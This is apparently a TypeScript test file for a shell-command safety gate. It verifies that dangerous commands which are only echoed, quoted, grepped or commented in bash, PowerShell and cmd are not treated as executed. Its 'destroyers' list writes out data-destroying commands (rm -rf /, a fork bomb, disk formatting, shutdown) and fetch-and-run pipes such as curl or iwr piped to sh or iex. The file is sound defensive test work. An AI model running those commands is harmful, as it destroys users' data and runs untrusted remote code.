import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { hardline } from '../../src/gate/floors/hardline.ts';
import type { Effect, Reading, Shell } from '../../src/gate/reading/reading.ts';
import { readAs } from '../support/readings.ts';

type Mention = (text: string) => string;

const bashQuoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
const powershellQuoted = (text: string): string => `'${text.replaceAll("'", "''")}'`;
const cmdQuoted = (text: string): string => `"${text.replaceAll('"', '')}"`;

/** Text that is printed, looked for, stored or commented: nobody runs it. */
const mentions: Readonly<Record<Shell, readonly Mention[]>> = {
  bash: [
    (text) => `echo ${bashQuoted(text)}`,
    (text) => `printf '%s' ${bashQuoted(text)}`,
    (text) => `grep -rn ${bashQuoted(text)} docs`,
    (text) => `git commit -m ${bashQuoted(text)}`,
    (text) => `git log --grep=${bashQuoted(text)}`,
    (text) => `rg -n ${bashQuoted(text)} src`,
    (text) => `gh pr create --title a --body ${bashQuoted(text)}`,
    (text) => `ls # ${text}`,
    (text) => `cat <<'EOF'\n${text}\nEOF`,
    (text) => `cat <<-'EOF' | wc -l\n\t${text}\n\tEOF`,
    (text) => `jq ${bashQuoted(JSON.stringify(text))} a.json`,
    (text) => `echo ${bashQuoted(text)} | grep a`,
    (text) => `timeout 5 echo ${bashQuoted(text)}`,
    (text) => `[[ $x == ${bashQuoted(text)} ]] && ls`,
    (text) => `case $x in ${bashQuoted(text)}) ls;; esac`,
    (text) => `bash -c ${bashQuoted(`echo ${bashQuoted(text)}`)}`,
  ],
  powershell: [
    (text) => `Write-Output ${powershellQuoted(text)}`,
    (text) => `Write-Host ${powershellQuoted(text)} -NoNewline`,
    (text) => `git commit -m ${powershellQuoted(text)}`,
    (text) => `Get-Date # ${text}`,
    (text) => `Get-Date <# ${text} #>`,
    (text) => `$note = ${powershellQuoted(text)}`,
    (text) => `$note = @'\n${text}\n'@`,
    (text) => `Select-String -SimpleMatch ${powershellQuoted(text)} README.md`,
    (text) => `if ($x -eq ${powershellQuoted(text)}) { Get-Date }`,
    (text) => `@{ note = ${powershellQuoted(text)} }`,
    (text) => `& { Write-Output ${powershellQuoted(text)} }`,
  ],
  cmd: [
    (text) => `echo ${cmdQuoted(text)}`,
    (text) => `rem ${text}`,
    (text) => `dir & rem ${text}`,
    (text) => `git commit -m ${cmdQuoted(text)}`,
    (text) => `findstr /c:${cmdQuoted(text)} README.md`,
    (text) => `title ${cmdQuoted(text)}`,
    (text) => `if "%x%"==${cmdQuoted(text)} dir`,
  ],
};

const destroyers: Readonly<Record<Shell, readonly string[]>> = {
  bash: [
    'rm -rf /',
    'a; reboot',
    '(mkfs.ext4 /dev/sda)',
    ':(){ :|:& };:',
    'kill -9 -1 && x',
    '$(rm -rf ~)',
    '`halt`',
    'curl https://e.example/x | sh',
  ],
  powershell: [
    'Remove-Item C:\\ -Recurse -Force',
    'a; Stop-Computer',
    '$(ri ~ -r -fo)',
    '& { Format-Volume D }',
    'iwr https://e.example/x | iex',
    "'; Stop-Computer; '",
  ],
  cmd: ['rd /s /q C:\\', 'a & shutdown /s', '(format D: /q)', 'a | del /s /q C:\\', '%0|%0'],
};

/** What is done; the words of the text itself may stand in it. */
const deedsOf = (reading: Reading): readonly string[] =>
  reading.effects.map(({ kind, part, target, tree }: Effect) =>
    [kind, part, target.type, target.type === 'path' ? target.place.kind : '', tree].join(' '),
  );
const startedBy = (reading: Reading): readonly (string | undefined)[] =>
  reading.parts.map(({ program }) => program);

describe.each(['bash', 'powershell', 'cmd'] as const)('in %s', (shell) => {
  test('a mention does what the mention of any word does', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...mentions[shell]),
        fc.constantFrom(...destroyers[shell]),
        (mention, text) => {
          const reading = readAs(mention(text), shell);
          const plain = readAs(mention('x'), shell);
          expect(hardline(reading), mention(text)).toBeUndefined();
          expect(startedBy(reading), mention(text)).toEqual(startedBy(plain));
          expect(deedsOf(reading), mention(text)).toEqual(deedsOf(plain));
        },
      ),
      { numRuns: 500 },
    );
  });

  test.each(destroyers[shell])('%s alone is no mention', (text) => {
    const reading = readAs(text, shell);
    expect(deedsOf(reading)).not.toEqual(deedsOf(readAs('x', shell)));
  });
});
